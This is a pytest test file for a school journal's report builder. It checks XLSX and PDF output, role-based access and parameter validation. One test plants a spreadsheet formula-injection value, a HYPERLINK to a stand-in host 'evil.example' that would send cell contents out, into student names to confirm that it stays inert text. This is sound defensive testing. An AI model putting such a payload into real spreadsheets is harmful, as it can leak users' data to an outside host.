"""Every report builds as XLSX (read back) and as PDF (pages, Cyrillic text), under the policy."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from services.errors import AccessDenied, NotFound, ValidationFailed
from services.reports import REPORTS, available_reports, build_report, list_reports
from tests.admin.helpers import fill_journal
from tests.factories import SchoolWorld

# kind -> (params, expected PDF pages, texts the report must contain)
CASES: dict[str, tuple[dict[str, Any], int, list[str]]] = {
    "attendance_month": (
        {"class": "7А", "month": "2026-11"},
        1,
        ["Отчёт о посещаемости", "Петрова Анна", "ноябрь 2026"],
    ),
    "class_results": (
        {"class": "7А", "period": 2},
        1,
        ["Итоги успеваемости", "Хорошисты", "Иванов Пётр", "Математика"],
    ),
    "marks_summary": ({"class": "7А"}, 1, ["Сводная ведомость", "Смирнова Ева", "н/а"]),
    "attendance_summary": ({"class": "7А"}, 1, ["посещаемости", "ноябрь", "Сидоров Олег"]),
    "movement": ({"date_from": "2026-09-01", "date_to": "2026-11-30"}, 1, ["Наполняемость"]),
    "class_teacher_report": (
        {"class": "7А", "period": 2},
        1,
        ["Отчёт классного руководителя", "Классная Мария", "Петрова Анна"],
    ),
    "journal_pages": (
        {"class": "7А", "subject": "Математика", "period": 2},
        2,
        [
            "Классный журнал: 7А, Математика",
            "Тема урока 3: уравнения",
            "Заместитель директора",
            "Иванов Пётр",
        ],
    ),
    "family_weekly": (
        {"date": "2026-11-11"},
        1,
        ["Иванов Пётр", "§5, упр. 13", "подпись родителя"],
    ),
    "activity": ({"month": "2026-11"}, 1, ["Учителев Иван", "Активность"]),
}


@pytest.fixture
async def filled(session: AsyncSession, world: SchoolWorld) -> SchoolWorld:
    await fill_journal(session, world)
    return world


def pdf_pages(data: bytes) -> int:
    return len(re.findall(rb"/Type\s*/Page(?!s)", data))


def pdf_text(data: bytes) -> str | None:
    if shutil.which("pdftotext") is None:
        return None
    out = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=data, capture_output=True, check=True
    )
    return out.stdout.decode("utf-8")


def xlsx_text(data: bytes) -> tuple[str, Any]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    texts = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    return "\n".join(texts), wb


def test_every_report_is_tested_and_listed() -> None:
    assert set(CASES) == set(REPORTS)
    menu = list_reports("ru")
    assert {m["kind"] for m in menu} == set(REPORTS)
    assert all(m["title"] and not m["title"].startswith("report.") for m in menu)
    assert list_reports("en")[0]["title"] == "Class attendance for a month"


@pytest.mark.parametrize("kind", sorted(CASES))
async def test_report_builds_as_xlsx_and_pdf(
    session: AsyncSession, filled: SchoolWorld, kind: str
) -> None:
    params, pages, texts = CASES[kind]
    params = dict(params)
    if kind == "family_weekly":
        params["student_id"] = filled.students[0].id
    admin = filled.actors["admin"]

    xlsx = await build_report(session, admin, kind, params, "xlsx")
    assert xlsx.filename.endswith(".xlsx") and xlsx.filename.isascii()
    assert xlsx.mime.endswith("spreadsheetml.sheet")
    text, wb = xlsx_text(xlsx.data)
    for expected in texts:
        assert expected in text, (kind, expected)
    assert wb.worksheets[0]["A1"].value == texts[0] or kind != "journal_pages"
    if kind != "journal_pages":
        assert wb.worksheets[0]["A1"].value == REPORTS[kind].title("ru")

    pdf = await build_report(session, admin, kind, params, "pdf")
    assert pdf.data.startswith(b"%PDF") and pdf.mime == "application/pdf"
    assert pdf_pages(pdf.data) == pages
    extracted = pdf_text(pdf.data)
    if extracted is not None:
        flat = " ".join(extracted.split())
        for expected in texts:
            assert " ".join(expected.split()) in flat, (kind, expected)


async def test_attendance_month_counts(session: AsyncSession, filled: SchoolWorld) -> None:
    f = await build_report(
        session,
        filled.actors["deputy"],
        "attendance_month",
        {"class_id": filled.cls.id, "month": "2026-11"},
        "xlsx",
    )
    _, wb = xlsx_text(f.data)
    ws = wb.worksheets[0]
    rows = {r[1]: r for r in ws.iter_rows(values_only=True) if r and isinstance(r[1], str) and r[0]}
    anna = rows["Петрова Анна"]
    # all, ill, excused, absent, late at the end of the row
    assert anna[-5:] == (3, 1, 1, 1, 1)
    total = next(r for r in ws.iter_rows(values_only=True) if r[1] == "Итого")
    assert total[-5:] == (4, 2, 1, 1, 1)


async def test_class_results_quality(session: AsyncSession, filled: SchoolWorld) -> None:
    f = await build_report(
        session, filled.actors["director"], "class_results", {"class": "7А", "period": 1}, "xlsx"
    )
    _, wb = xlsx_text(f.data)
    ws = wb.worksheets[0]
    by_subject = {
        r[0]: r
        for r in ws.iter_rows(values_only=True)
        if r and r[0] in ("Математика", "Русский язык")
    }
    # Period marks of quarter 1: maths 5, 4, 3, н/а; Russian 5, 5, 4, 2.
    assert by_subject["Математика"][2:8] == (3, 1, 1, 1, 0, 1)
    assert by_subject["Математика"][9] == pytest.approx(66.7)
    assert by_subject["Русский язык"][9:11] == (75.0, 75.0)


async def test_reports_in_english(session: AsyncSession, filled: SchoolWorld) -> None:
    f = await build_report(
        session,
        filled.actors["admin"],
        "attendance_month",
        {"class": "7А", "month": "2026-11", "lang": "en"},
        "xlsx",
    )
    text, _ = xlsx_text(f.data)
    assert "Class attendance for a month" in text and "November 2026" in text


async def test_report_policy(session: AsyncSession, filled: SchoolWorld) -> None:
    w = filled
    ct = w.actors["class_teacher"]
    await build_report(session, ct, "class_results", {"class": "7А", "period": 2}, "xlsx")
    with pytest.raises(AccessDenied):
        await build_report(session, ct, "class_results", {"class": "8Б", "period": 2}, "xlsx")
    with pytest.raises(AccessDenied):
        await build_report(session, ct, "activity", {"month": "2026-11"}, "pdf")
    await build_report(
        session, ct, "family_weekly", {"student_id": w.students[1].id, "date": "2026-11-11"}, "pdf"
    )
    with pytest.raises(AccessDenied):
        await build_report(session, ct, "family_weekly", {"student_id": w.other_student.id}, "pdf")
    teacher = w.actors["teacher"]
    params = {"class": "7А", "subject": "Математика", "period": 2}
    await build_report(session, teacher, "journal_pages", params, "pdf")
    with pytest.raises(AccessDenied):
        await build_report(
            session, teacher, "journal_pages", {**params, "subject": "Русский язык"}, "pdf"
        )
    with pytest.raises(AccessDenied):
        await build_report(session, teacher, "attendance_month", {"class": "7А"}, "pdf")
    for name in ("parent", "student"):
        with pytest.raises(AccessDenied):
            await build_report(session, w.actors[name], "attendance_month", {"class": "7А"}, "pdf")
    assert await available_reports(session, teacher) == ["journal_pages"]
    assert set(await available_reports(session, w.actors["deputy"])) == set(REPORTS)


async def test_report_parameter_errors(session: AsyncSession, filled: SchoolWorld) -> None:
    admin = filled.actors["admin"]
    with pytest.raises(ValidationFailed):
        await build_report(session, admin, "nope", {}, "pdf")
    with pytest.raises(ValidationFailed):
        await build_report(session, admin, "class_results", {"class": "7А"}, "pdf")
    with pytest.raises(ValidationFailed):
        await build_report(session, admin, "class_results", {"class": "7А", "period": 1}, "doc")
    with pytest.raises(NotFound):
        await build_report(session, admin, "class_results", {"class": "5Я", "period": 1}, "pdf")
    with pytest.raises(ValidationFailed):
        await build_report(
            session, admin, "attendance_month", {"class": "7А", "month": "13/13"}, "pdf"
        )


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
# The reports that list students by name.
NAMED = (
    "attendance_month",
    "attendance_summary",
    "class_results",
    "class_teacher_report",
    "family_weekly",
    "journal_pages",
    "marks_summary",
)


async def _build_all(session: AsyncSession, world: SchoolWorld) -> dict[str, bytes]:
    out = {}
    for kind, (params, _, _) in CASES.items():
        params = dict(params)
        if kind == "family_weekly":
            params["student_id"] = world.students[0].id
        report = await build_report(session, world.actors["admin"], kind, params, "xlsx")
        out[kind] = report.data
    return out


async def test_a_formula_in_a_name_stays_text_in_every_xlsx_report(
    session: AsyncSession, filled: SchoolWorld
) -> None:
    for student in filled.students:
        student.last_name = EVIL
    await session.commit()
    for kind, data in (await _build_all(session, filled)).items():
        _, wb = xlsx_text(data)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
        shown = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
        if kind in NAMED:
            assert shown, kind
        assert all(c.data_type == "s" for c in shown), kind
        assert all(c.quotePrefix for c in shown if c.value.startswith(EVIL)), kind


async def test_a_control_character_in_a_name_breaks_no_report(
    session: AsyncSession, filled: SchoolWorld
) -> None:
    """Data saved before imports refused control characters still makes every report."""
    # PostgreSQL cannot store a NUL at all; SQLite can, and XLSX refuses both.
    ctrl = "\x00" if session.get_bind().dialect.name == "sqlite" else "\x01"
    for student in filled.students:
        student.first_name = f"Ан{ctrl}на\x1b"
    await session.commit()
    for kind, data in (await _build_all(session, filled)).items():
        text, _ = xlsx_text(data)
        if kind in NAMED:
            assert "Анна" in text, kind
        assert ctrl not in text, kind
    params = dict(CASES["class_teacher_report"][0])
    pdf = await build_report(session, filled.actors["admin"], "class_teacher_report", params, "pdf")
    assert pdf.data.startswith(b"%PDF")
